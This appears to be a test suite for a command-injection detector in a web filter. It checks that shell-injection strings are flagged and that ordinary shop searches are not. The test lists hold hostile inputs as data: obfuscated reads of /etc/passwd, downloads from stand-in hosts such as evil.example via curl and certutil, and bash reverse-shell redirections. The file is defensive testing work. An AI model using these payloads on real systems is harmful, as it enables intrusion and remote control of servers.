// Command injection read as a shell reads it (detect/cmdi.ts): substitutions, commands after
// separators, commands with shell arguments, batch syntax, brace expansion and globs are found
// through quote and backslash tricks; shop searches and filters are not. Properties: quoting
// tricks inside a command word do not hide it; ordinary words and numbers never match.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { detectCmdi } from '../../../src/detect/cmdi.ts';
import { matchStructure } from '../../../src/detect/structure.ts';
import { flagged } from './requests.ts';

test('injection shapes are found', () => {
  for (const s of [
    ';id',
    '127.0.0.1|whoami',
    'x && curl http://198.51.100.7/a.sh',
    'x\nwget http://a.example/x',
    '$(uname -a)',
    '`cat /etc/hosts`',
    '<(cat file)',
    '${PATH#{}/}',
    "w''ho''am''i",
    'c\\at /etc/passwd',
    'cat${IFS}/etc/passwd',
    'ls -la /',
    'ping -c 3 192.0.2.1',
    'sleep 5',
    '/usr/bin/perl -e "print 1"',
    '& FOR /F "delims=" %i IN (\'whoami\') DO echo %i',
    'for %%f in (*.TXT) do TYPE %%f',
    'IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)',
    'IF /I "%var%" LEQ "1" ECHO less',
    '{cat,/etc/passwd}',
    '/e?c/pa[s]swd',
    '/usr/[a-z]in/bash',
    'Invoke-WebRequest http://example.com/a.ps1',
    '; certutil -urlcache -f http://evil.example/p.exe',
    'whoami',
    // an unknown command with an option or a path after a separator, quoted command names
    ';perf --version',
    ";'rmt' --version",
    '|flock -u / whoami',
    ";'curl' http://evil.example",
    // a program path in a system binary directory; a command then a separator
    '/bin/unxz -c /var/log/x.xz',
    'bin/visudo',
    'whoami;0',
    // a command line on the first of several lines
    'ansible all -m ping\n',
    'time ifconfig\n',
    // Windows administration, batch loops with several switches, if/i
    'net view',
    'netsh firewall set opmode disable',
    'FOR /D /r %G in ("User*") DO Echo We found %G',
    'if/i a==b foo',
    // a one-letter class spelling a system path
    '/etc/pas[s]wd',
    // a command with a shell argument after any separator; which; a quote break-out
    '& ls -l /tmp',
    '& dir C:\\Users',
    '&& pwd',
    'which python',
    "' whoami",
    // newlines written out
    '\\nid\\n',
    '\\n/usr/bin/id;',
    // a word the shell expands into a command
    'c{a,oun}t /etc/hosts',
    '{l,-lh}s',
  ])
    assert.notEqual(detectCmdi(s), null, s);
});

test('shop searches, filters and prose are not commands', () => {
  for (const s of [
    'cat food',
    'cat 5 cable',
    'id',
    'id 5',
    'sort=id',
    'php',
    'red|blue',
    'tom & jerry',
    'black;white',
    'exec chair',
    'ping pong table',
    'set of 4 mugs',
    'type a=b',
    'rock & roll',
    'data:image/png;base64,iVBORw0KGgo=',
    'for sale in london',
    'if you like it',
    '{{gift}}',
    '/catalog/*/view',
    'summer-sale-2024',
    'wget',
    'ruby',
    'python',
    'net curtain',
    'time machine --',
    'size; --large',
    'colour: red; size -- large',
    'bin/liners',
    'recycle-bin/x',
    'dust bin/lid',
    'alias name',
    'c:\\new folder',
    'which colour',
    "' whom it may concern",
    'tom & jerry -the movie',
    'size{s,m}',
    'shirt {red,blue}',
  ])
    assert.equal(detectCmdi(s), null, s);
});

test('the rule condition finds it in a path segment, a query value and JSON in a parameter', () => {
  assert.match(matchStructure('cmdi', 'target', '/ping?ip=127.0.0.1%3Bcat%20/etc/passwd') ?? '', /command cat after ;/);
  assert.match(matchStructure('cmdi', 'target', '/api/v1/x;whoami') ?? '', /whoami/);
  assert.match(matchStructure('cmdi', 'target', '/r?q={"a":"$(id)"}') ?? '', /substitution/);
  assert.equal(matchStructure('cmdi', 'target', '/search?q=cat+food&page=2'), null);
  // a value routed into the path with slashes of its own is read from its first segment on
  assert.match(matchStructure('cmdi', 'target', '/p/id/for%20/f%20%25i%20in%20(x)%20do%20y') ?? '', /batch for/);
  assert.equal(matchStructure('cmdi', 'target', '/blog/tags/ruby'), null);
  assert.equal(matchStructure('cmdi', 'target', '/scripts/python/wrap/?C=N;O=D'), null);
});

const commands = ['whoami', 'uname', 'wget', 'curl', 'netstat', 'ifconfig', 'certutil'];

test('property: quotes, backslashes and $@ inside a command after a separator do not hide it', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...commands),
      fc.constantFrom(';', '|', '&&', '||', '\n'),
      fc.array(fc.constantFrom("''", '""', '$@'), { minLength: 0, maxLength: 3 }),
      fc.boolean(),
      fc.nat(),
      (cmd, sep, tricks, backslash, at) => {
        fc.pre(tricks.length > 0 || backslash);
        const i = 1 + (at % (cmd.length - 1));
        // a backslash escapes the next letter (a no-op); before a quote it would escape the quote
        const spelled = cmd.slice(0, i) + tricks.join('') + (backslash ? '\\' : '') + cmd.slice(i);
        assert.notEqual(detectCmdi(`x${sep}${spelled} -a`), null, `x${sep}${spelled}`);
      },
    ),
  );
});

test('property: words and numbers without shell syntax never match', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.stringMatching(/^[a-z]{1,10}$/), fc.integer({ min: 0, max: 9999 }).map(String)), {
        minLength: 1,
        maxLength: 6,
      }),
      (words) => {
        const s = words.join(' ');
        // a recon command alone, or a lead command with a number, is a command on purpose
        fc.pre(!/^(?:whoami|ifconfig|ipconfig|systeminfo|tasklist|netstat|uname)$/.test(s));
        fc.pre(!/^(?:sleep|ping|timeout) \d+$/.test(s));
        fc.pre(!/^net (?:view|users?|localgroup|group|share|use|session|accounts|config|start|stop)\b/.test(s));
        fc.pre(!/^route (?:print|add|delete)\b/.test(s));
        fc.pre(!/^sc (?:query|qc|create|config|start|stop)\b/.test(s));
        assert.equal(detectCmdi(s), null, s);
      },
    ),
    { numRuns: 2000 },
  );
});

test('property: a separator, any command-shaped word and an option or a path is a command line', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(';', '|', '&&', '\n'),
      fc.stringMatching(/^[a-z][a-z0-9-]{1,12}$/),
      fc.constantFrom('--version', '-x', '-la', '/tmp/a', '/'),
      fc.constantFrom('', "'", '"'),
      (sep, cmd, arg, q) => {
        assert.notEqual(detectCmdi(`x${sep}${q}${cmd}${q} ${arg}`), null, `x${sep}${q}${cmd}${q} ${arg}`);
      },
    ),
  );
});

test('empty variables, sibling programs, subshells, network redirection, batch /i', () => {
  for (const v of [
    '|$u wget x',
    ';$foo cat /etc/hosts',
    ';rmt-tar',
    'x;curl-config',
    'x&&(sh)',
    '0>$d/tcp/198.51.100.1/4444',
    'bash -i >& /dev/udp/10.0.0.1/53 0>&1',
    'if/i a==b x',
  ])
    assert.ok(detectCmdi(v) !== null, v);
  for (const v of ['$usd shirt', 'red;t-shirt', 'x;e-mail', 'a (b) && (c)', '/docs/tcp/port/80', 'rock-n-roll;pop-art'])
    assert.equal(detectCmdi(v), null, v);
});

test('property: an unset variable before a command after a separator does not hide it', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(';', '|', '&&', '\n'),
      fc.stringMatching(/^[a-z_][a-z0-9_]{0,6}$/),
      fc.constantFrom('wget x', 'curl x', 'cat /etc/hosts', 'id', 'whoami'),
      (sep, name, cmd) => detectCmdi(`x${sep}$${name} ${cmd}`) !== null,
    ),
  );
});

test('property: bash network redirection to any host and port is found', () => {
  fc.assert(
    fc.property(
      fc.ipV4(),
      fc.integer({ min: 1, max: 65535 }),
      fc.constantFrom('/dev', '$d', '${d}'),
      fc.constantFrom('tcp', 'udp'),
      (ip, port, dev, proto) => detectCmdi(`sh>${dev}/${proto}/${ip}/${port}`) !== null,
    ),
  );
});

test('a value that opens with an output redirection to an absolute path', () => {
  for (const v of ['>/tmp/curl', ' 2>>/var/www/a.php', '>> /etc/cron.d/x']) assert.ok(detectCmdi(v) !== null, v);
  for (const v of ['> 50 eur', '>/', 'size >/< 10', 'a>/tmp/x']) assert.equal(detectCmdi(v), null, v);
  fc.assert(
    fc.property(
      fc.constantFrom('>', '>>', '2>', '1>>'),
      fc.constantFrom('tmp', 'var', 'etc', 'dev'),
      fc.stringMatching(/^[a-z0-9_.-]{1,12}$/),
      (op, dir, file) => detectCmdi(`${op}/${dir}/${file}`) !== null,
    ),
  );
});

test('alias definitions and escaped commands opening a value', () => {
  for (const v of ["alias 'l'=wget", 'alias +g+ a=b', 'alias -g x=y', '\\uname', ' \\ls'])
    assert.ok(detectCmdi(v) !== null, v);
  for (const v of ['alias grace', 'alias: jacket=blue', '\\red', '\\n', 'the alias x=y'])
    assert.equal(detectCmdi(v), null, v);
  fc.assert(
    fc.property(
      fc.stringMatching(/^[a-z]{1,8}$/),
      fc.constantFrom("'", '"', ''),
      fc.constantFrom('curl', 'wget', 'x'),
      (n, q, c) => detectCmdi(`alias ${q}${n}${q}=${c}`) !== null,
    ),
  );
});

test('the shell gate lets a command with a Windows program suffix through (ping.exe -n 31 …)', () => {
  const found = (path: string, query: string) => flagged('cmdi', path, query);
  assert.ok(found('/catalogsearch/result/', 'q=ping.exe+-n+31+127.0.0.1'));
  assert.ok(found('/catalog/product/view/id/ping.exe%20-n%2031%20127.0.0.1', ''));
  assert.ok(!found('/catalogsearch/result/', 'q=setup.exe+download'));
  assert.ok(!found('/catalogsearch/result/', 'q=ping+pong+table'));
});
